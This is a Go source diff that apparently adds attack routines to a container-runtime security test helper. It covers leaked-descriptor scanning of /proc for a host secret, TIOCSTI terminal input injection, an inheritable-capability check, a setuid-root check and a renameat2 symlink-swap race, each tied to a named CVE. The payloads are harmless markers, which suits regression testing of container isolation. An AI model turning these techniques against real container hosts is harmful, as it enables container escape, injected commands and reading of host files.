@@ -12,6 +12,7 @@ import (
 	"strings"
 	"syscall"
 	"time"
+	"unsafe"
 
 	"golang.org/x/sys/unix"
 )
@@ -21,6 +22,11 @@ var attacks = map[string]func(args []string) (string, error){
 	"overwrite-exe": overwriteExe,
 	"leaked-fd":     leakedDescriptor,
 	"escape-chroot": escapeChroot,
+	"peek":          peek,
+	"push-input":    pushInput,
+	"inheritable":   inheritable,
+	"become-root":   becomeRoot,
+	"swap":          swap,
 }
 
 func main() {
@@ -129,4 +135,63 @@ func escapeChroot(args []string) (string, error) {
 	}
 	text, err := os.ReadFile(args[0])
 	return string(bytes.TrimSpace(text)), err
+}
+
+// peek looks into every process that comes into the container, and through its descriptors (CVE-2016-9962).
+func peek(args []string) (string, error) {
+	if err := os.WriteFile(args[0], nil, 0o644); err != nil { // tells that we are watching
+		return "", err
+	}
+	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); {
+		secrets, err := filepath.Glob("/proc/[0-9]*/fd/*/secret-of-the-host")
+		if err != nil {
+			return "", err
+		}
+		for _, secret := range secrets {
+			if text, err := os.ReadFile(secret); err == nil {
+				return secret + ": " + strings.TrimSpace(string(text)), nil
+			}
+		}
+	}
+	return "", fmt.Errorf("no descriptor led outside")
+}
+
+// pushInput types into the terminal that it has, as if a person did: whoever reads next executes it (TIOCSTI, CVE-2016-2568).
+func pushInput([]string) (string, error) {
+	for _, key := range []byte("GOT IN\n") {
+		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&key))); errno != 0 {
+			return "", errno
+		}
+	}
+	return "a line into this terminal", nil
+}
+
+// inheritable finds capabilities that a program with file capabilities would get from an ordinary user (CVE-2022-24769).
+func inheritable([]string) (string, error) {
+	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
+	var data [2]unix.CapUserData
+	if err := unix.Capget(&header, &data[0]); err != nil {
+		return "", err
+	}
+	if data[0].Inheritable|data[1].Inheritable == 0 {
+		return "", fmt.Errorf("the inheritable set is empty")
+	}
+	return fmt.Sprintf("inheritable capabilities %x%08x", data[1].Inheritable, data[0].Inheritable), nil
+}
+
+// becomeRoot is a set-user-id program of root.
+func becomeRoot([]string) (string, error) {
+	if os.Geteuid() != 0 {
+		return "", fmt.Errorf("still user %d", os.Geteuid())
+	}
+	return "root", nil
+}
+
+// swap exchanges a directory and a symbolic link, as fast as it can, until it is killed (CVE-2018-15664, CVE-2021-30465).
+func swap(args []string) (string, error) {
+	for {
+		if err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE); err != nil {
+			return "", err
+		}
+	}
 }
